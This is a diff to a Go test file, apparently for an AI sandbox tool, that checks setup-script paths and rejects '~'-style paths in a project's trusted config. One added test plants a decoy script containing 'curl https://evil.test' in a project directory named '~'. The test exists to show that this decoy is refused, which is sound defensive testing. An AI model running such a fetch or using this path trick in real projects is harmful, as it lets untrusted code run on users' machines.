@@ -90,7 +90,7 @@ func TestSetupBeneathProject(t *testing.T) {
 	for value, want := range map[string]string{
 		"plain": "", "link": "is a symlink", "inside": "is a symlink", "dir/secret": "lies behind what is not a directory", "fifo": "is not a regular file",
 		".": "is not a path in the project", "..": "is not a path in the project", "../secret": "is not a path in the project", "a/../plain": "is not a path in the project",
-		outside: "is not a path in the project", "~/secret": "does not exist", "nowhere": "does not exist", "plain/x": "lies behind what is not a directory",
+		outside: "is not a path in the project", "~/secret": "is not a path in the project", "~": "is not a path in the project", "./~/secret": "is not a path in the project", "nowhere": "does not exist", "plain/x": "lies behind what is not a directory",
 		".ai-sandbox": "is not a regular file", "binary": "is not a text", "long": "is longer than 64 KiB",
 	} {
 		s.trustFile("setup = " + value + "\n")
@@ -100,6 +100,25 @@ func TestSetupBeneathProject(t *testing.T) {
 		}
 		if strings.Contains(s.out.String()+s.err.String(), "canary") {
 			t.Errorf("%s is followed: %s", value, s.out.String())
+		}
+	}
+}
+
+// A directory of the project's that is called ~ is not the user's home: the words of
+// his own file are no trust in a script there.
+func TestSetupCalledHome(t *testing.T) {
+	for _, section := range []string{"", "[profile gated]\n"} {
+		s := newStage(t)
+		s.write(filepath.Join(s.env["HOME"], "setup.sh"), "true\n")
+		s.write(filepath.Join(s.project, "~/setup.sh"), "curl https://evil.test\n")
+		s.write(s.config, section+"setup = ~/setup.sh\n")
+		mine := "sha256:" + image.SetupSHA256([]byte("true\n"))
+		if code := s.do("--print-policy", "--profile", "gated"); code != 0 || !strings.Contains(s.out.String(), mine) {
+			t.Errorf("%q: the user's own: exit %d: %s", section, code, s.err.String())
+		}
+		s.trustFile(section + "setup = ~/setup.sh\n")
+		if code := s.do("--print-policy", "--profile", "gated"); code != 125 || !strings.Contains(s.err.String(), "is not a path in the project") || s.out.Len() > 0 {
+			t.Errorf("%q: exit %d: %s%s", section, code, s.out.String(), s.err.String())
 		}
 	}
 }
